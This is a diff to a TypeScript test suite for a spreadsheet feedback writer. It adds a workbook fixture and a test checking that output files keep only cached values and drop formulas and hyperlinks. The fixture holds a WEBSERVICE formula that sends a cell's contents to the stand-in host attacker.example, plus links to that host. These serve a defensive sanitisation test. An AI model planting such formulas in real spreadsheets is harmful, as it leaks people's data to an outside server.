@@ -74,7 +74,13 @@ async function unitWorkbook(): Promise<Uint8Array> {
   ws.getCell(addr('male')).value = 7
   ws.getCell(addr('prev')).value = 3
   ws.getCell(addr('prev')).note = 'ghi chú của đơn vị'
-  wb.addWorksheet('Ghi chep rieng').getCell('B2').value = 'nội dung riêng của đơn vị'
+  const own = wb.addWorksheet('Ghi chep rieng')
+  own.getCell('B2').value = 'nội dung riêng của đơn vị'
+  // the unit's own formulas and links, each with the value Excel last showed
+  own.getCell('C3').value = { formula: 'WEBSERVICE("http://attacker.example/?q="&B2)', result: 'đã gửi' }
+  own.getCell('C4').value = { formula: 'HYPERLINK("http://attacker.example","bấm vào")', result: 'bấm vào' }
+  own.getCell('C5').value = { formula: 'SUM(1,2)', result: 3 }
+  own.getCell('C6').value = { text: 'trang của đơn vị', hyperlink: 'http://attacker.example/' }
   return new Uint8Array(await wb.xlsx.writeBuffer())
 }
 
@@ -181,6 +187,19 @@ describe('writeFeedback on an .xlsx', () => {
       'Nam + Nữ khác Tổng số',
     ])
     expect(body.find((r) => r[1] === 'S06')![8]).toBe('Thiếu dòng chỉ tiêu')
+  })
+
+  it("writes the unit's own formulas and links as the values they showed", () => {
+    for (const name of sj.SheetNames)
+      for (const [ref, cell] of Object.entries(sj.Sheets[name]!))
+        if (!ref.startsWith('!')) expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined()
+    const own = sj.Sheets['Ghi chep rieng']!
+    expect(own['C3']).toMatchObject({ v: 'đã gửi' })
+    expect(own['C4']).toMatchObject({ v: 'bấm vào' })
+    expect(own['C5']).toMatchObject({ t: 'n', v: 3 })
+    expect(own['C6']).toMatchObject({ v: 'trang của đơn vị' })
+    expect(own['C6']?.l).toBeUndefined()
+    expect(ej.getWorksheet('Ghi chep rieng')!.getCell('C6').hyperlink).toBeUndefined()
   })
 
   it('writes unit text and formula-looking values as strings', () => {
